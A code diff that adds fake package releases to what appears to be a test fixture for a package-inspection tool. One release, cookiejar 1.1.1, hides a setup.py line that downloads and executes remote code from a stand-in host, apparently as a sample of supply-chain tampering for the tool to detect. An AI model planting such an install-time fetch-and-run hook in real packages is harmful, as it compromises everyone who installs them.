@@ -19,6 +19,25 @@ ELSEWHERE = {"configuration.md", "json.md"}
 PAGES = sorted(page for page in [ROOT / "README.md", *ROOT.glob("docs/**/*.md")] if page.name not in ELSEWHERE)
 
 SESSIONS = "\n" * 355 + "class Session(SessionRedirectMixin):\n    pass\n"
+
+
+def releases() -> dict[str, dict[str, str]]:
+    """Releases of one project, of which one brings what its announcement does not say."""
+    first = "import hashlib\n\n\ndef seal(value, key):\n    return hashlib.sha256(key + value).digest()\n"
+    second = 'import hashlib\nimport hmac\n\n\ndef seal(value, key):\n    return hmac.digest(key, value, "sha256")\n'
+    setup = "from setuptools import setup\nsetup()\n"
+    evil = 'from urllib.request import urlopen\nexec(urlopen("https://updates.example.com/run").read())\n'
+    return {
+        version: {"cookiejar/jar.py": code, "README.md": readme, "setup.py": setup + more}
+        for version, code, readme, more in (
+            ("1.0", first, "A jar\n", ""),
+            ("1.1", second, "A jra\n", ""),
+            ("1.1.1", second, "A jar\n", evil),
+            ("2.0", second, "A jar.\n", ""),
+        )
+    }
+
+
 PACKAGES: tuple[Distribution, ...] = (
     sdist("requests", "2.32.3", {"src/requests/sessions.py": SESSIONS}),
     wheel("requests", "2.32.3", {"requests/sessions.py": SESSIONS}),
@@ -28,6 +47,8 @@ PACKAGES: tuple[Distribution, ...] = (
     sdist("numpy", "1.22.3", {"numpy/__init__.py": "pi = 3.14\n"}),
     sdist("django", "4.2", {"django/__init__.py": "VERSION = (4, 2)\n"}),
     sdist("django", "4.2.1", {"django/__init__.py": "VERSION = (4, 2, 1)\n"}),
+    sdist("pyyaml", "6.0.2", {"lib/PyYAML.egg-info/top_level.txt": "_yaml\nyaml\n", "lib/yaml/__init__.py": ""}),
+    *(sdist("cookiejar", version, files) for version, files in releases().items()),
 )
 
 CONFIGURATION = next(block for block in blocks((ROOT / "README.md").read_text(encoding="utf-8")) if block.language == "jsonc")
